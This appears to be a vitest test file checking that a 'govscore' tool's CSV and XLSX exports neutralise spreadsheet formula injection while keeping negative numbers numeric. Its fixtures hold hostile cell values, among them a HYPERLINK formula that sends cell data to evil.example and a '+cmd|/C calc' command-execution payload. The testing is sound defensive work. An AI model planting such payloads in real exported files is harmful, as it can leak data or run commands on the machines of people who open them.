/**
 * Formula injection: region ids, names and groups that a spreadsheet would run as formulas (`=`, `+`,
 * `-`, `@`, tab, CR first) are written as text with a leading `'` in the CSV and XLSX exports of
 * `govscore assess`; numbers — negative ones too — stay numbers.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readXlsxRows, toCsv, writeXlsx } from '@govscore/core/io';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../packages/core/src/load/csv';
import { runCli } from './cli';

const tmp = mkdtempSync(join(tmpdir(), 'govscore-hostile-exports-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const set = `
id: inj
title: Injection
languages: [en]
methodology:
  normalise: none
tree:
  id: index
  children:
    - id: a
    - id: b
`;

/** [id, name, group] of each unit: every one starts like a formula. */
const units = [
  ['=HYPERLINK("http://evil.example/?"&A1)', '=1+2', '@SUM(A1:A9)'],
  ['+33612345678', '+cmd|/C calc!A0', '-2+3'],
  ['-1', '-payload', '=WEBSERVICE("x")'],
  ['@user', '\t=tab', 'plain'],
  ['ok', '\r=cr', '=IMPORTXML(1)'],
];
/** Raw values (normalise: none, so they are the scores): negative numbers must stay numbers. */
const a = [-1.5, 2, -3, 4, 0];
const b = [-10, 20, 30, -40, 5];

/** A quoted CSV cell. */
const q = (s: string) => `"${s.replace(/"/g, '""')}"`;

describe('CSV and XLSX exports neutralise formulas', () => {
  const setPath = join(tmp, 'set.yaml');
  const dataPath = join(tmp, 'data.csv');
  writeFileSync(setPath, set);
  writeFileSync(
    dataPath,
    `id,name,group,a,b\n${units.map(([id, name, g], i) => [q(id!), q(name!), q(g!), a[i], b[i]].join(',')).join('\n')}\n`,
  );

  it('assess writes them', async () => {
    const r = await runCli(
      'assess',
      setPath,
      '--data',
      dataPath,
      '--csv',
      join(tmp, 'long.csv'),
      '--wide-csv',
      join(tmp, 'wide.csv'),
      '--xlsx',
      join(tmp, 'out.xlsx'),
      '--quiet',
    );
    expect(r.err).toBe('');
    expect(r.code).toBe(0);
  });

  it('long CSV: ids start with a quote, negative scores are plain numbers', () => {
    const rows = parseCsv(readFileSync(join(tmp, 'long.csv'), 'utf8')).rows.map((r) => r.cells);
    expect(rows[0]).toEqual([
      'region_id',
      'node_id',
      'kind',
      'score',
      'rank',
      'tier',
      'raw',
      'treated',
      'imputed',
    ]);
    const ids = [...new Set(rows.slice(1).map((r) => r[0]))];
    expect(ids).toEqual(units.map(([id]) => (id === 'ok' ? 'ok' : `'${id}`)));
    const aRows = rows.filter((r) => r[1] === 'a');
    expect(aRows.map((r) => r[3])).toEqual(['-1.5', '2', '-3', '4', '0']);
    expect(aRows.map((r) => r[6])).toEqual(['-1.5', '2', '-3', '4', '0']);
    // no cell of the file starts a formula
    for (const r of rows) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r](?![0-9.])/);
  });

  it('wide CSV: names and groups neutralised too', () => {
    const rows = parseCsv(readFileSync(join(tmp, 'wide.csv'), 'utf8')).rows.map((r) => r.cells);
    expect(rows[0]!.slice(0, 3)).toEqual(['region_id', 'name_en', 'group']);
    expect(rows.slice(1).map((r) => r.slice(1, 3))).toEqual(
      // names are trimmed when read (`\t=tab` → `=tab`), then neutralised
      units.map(([, name, g]) => [`'${name!.trim()}`, g === 'plain' ? 'plain' : `'${g}`]),
    );
    expect(rows.slice(1).map((r) => r[rows[0]!.indexOf('b')])).toEqual(['-10', '20', '30', '-40', '5']);
  });

  it('XLSX: text cells start with a quote in the file, numbers are numeric cells (negatives included); read back as they were', () => {
    const bytes = new Uint8Array(readFileSync(join(tmp, 'out.xlsx')));
    // in the file: every formula-like text has its quote (no shared string starts like a formula)
    const sst = strFromU8(unzipSync(bytes)['xl/sharedStrings.xml']!);
    const entity: Record<string, string> = { quot: '"', amp: '&', lt: '<', gt: '>', apos: "'" };
    const texts = [...sst.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((m) =>
      m[1]!.replace(/&(quot|amp|lt|gt|apos);/g, (_, e: string) => entity[e]!),
    );
    for (const [id] of units) if (id !== 'ok') expect(texts).toContain(`'${id}`);
    for (const t of texts) expect(t).not.toMatch(/^[=+\-@\t\r]/);
    // read back: the reader takes off exactly the quote the writer added
    const [long, wide] = readXlsxRows(bytes);
    const ids = [...new Set(long!.rows.slice(1).map((r) => r.cells[0]))];
    expect(ids).toEqual(units.map(([id]) => id));
    const scores = long!.rows.filter((r) => r.cells[1] === 'b').map((r) => r.cells[3]);
    expect(scores).toEqual([-10, 20, 30, -40, 5]);
    const names = wide!.rows.slice(1).map((r) => r.cells[1]);
    expect(names).toEqual(units.map(([, name]) => name!.trim()));
  });
});

describe('the writers themselves (table-driven)', () => {
  const cells: [string | number, string][] = [
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@A1', "'@A1"],
    ['\t=1', "'\t=1"],
    ['\r=1', '"\'\r=1"'],
    ['a=1', 'a=1'],
    ['', ''],
    [-1.5, '-1.5'],
    [-0, '0'],
    [1e-7, '1e-7'],
  ];
  it.each(cells)('toCsv(%j) → %j', (cell, csv) => {
    expect(toCsv([[cell]])).toBe(`${csv}\r\n`);
  });
  it('writeXlsx: text neutralised in the file, numbers numeric (negative too); read back as written', () => {
    const bytes = writeXlsx([{ name: 's', rows: [cells.map(([c]) => c)] }]);
    const sst = strFromU8(unzipSync(bytes)['xl/sharedStrings.xml']!);
    for (const t of ["'=1+1", "'+1", "'-1", "'@A1"]) expect(sst).toContain(`<t>${t}</t>`);
    const [sheet] = readXlsxRows(bytes);
    expect(sheet!.rows[0]!.cells).toEqual([
      '=1+1',
      '+1',
      '-1',
      '@A1',
      '\t=1',
      '\r=1',
      'a=1',
      '',
      -1.5,
      0,
      1e-7,
    ]);
  });
});
